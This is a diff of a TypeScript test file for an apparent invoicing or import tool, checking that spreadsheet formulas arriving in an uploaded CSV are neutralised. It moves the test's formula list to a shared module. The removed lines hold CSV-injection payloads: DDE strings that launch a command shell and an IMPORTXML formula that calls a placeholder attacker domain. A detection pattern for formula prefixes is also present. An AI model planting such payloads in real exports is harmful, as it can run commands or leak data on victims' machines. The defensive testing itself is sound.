@@ -3,6 +3,7 @@ import { ImportState } from "@fairflow/contract";
 import { recordAudit } from "@fairflow/db";
 import { emptyFlow } from "@fairflow/flow";
 import { openTable } from "@fairflow/intake";
+import { FORMULAS } from "@fairflow/intake/formula-cells";
 import { describe, expect, test } from "vitest";
 import { importSample } from "../imports/import-sample.ts";
 import { sampleMapping } from "../imports/sample-mapping.ts";
@@ -12,27 +13,17 @@ const app = await testApp();
 const { as, anonymous, database } = app;
 const system = await app.withKey("polluter", ["accounts", "contacts", "events"]);
 
-/** PayloadsAllTheThings, "CSV Injection", with the beginnings that ASVS 5.0 V1.2.10 names. */
-const FORMULAS = [
-  "=2+5+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "=cmd|' /C calc'!'A1'",
-  `=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A`,
-  "=         cmd|'/c calc.exe'!A",
-  '=IMPORTXML("http://[ATTACKER.DOMAIN.TLD]/csv", "//a/@href")',
-  "+1+1",
-  "-1+1",
-  "＝1+1",
-  "＠SUM(A1)",
-];
 /** Runs of spaces are read as one. */
 const STORED = FORMULAS.map((formula) => formula.replaceAll(/\s+/g, " "));
 const IS_FORMULA = /^[\s\0\u{feff}]*[=+\-@＝＋－＠]/u;
 
 describe("formulas that came in with a file", () => {
   const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
-  const row = (formula: string, index: number, amount: string) =>
-    [`C-${index}`, quoted(formula), `I-${index}`, amount, "2026-01-10", quoted(formula)].join(",");
+  const row = (formula: string, index: number, amount: string) => {
+    // All of one length, so that they sort as they stand in the file.
+    const invoice = `I-${index + 10}`;
+    return [`C-${index}`, quoted(formula), invoice, amount, "2026-01-10", quoted(formula)].join();
+  };
   const file = (amount: string) =>
     [
       "Customer,Name,Invoice,Amount,Due,Product",
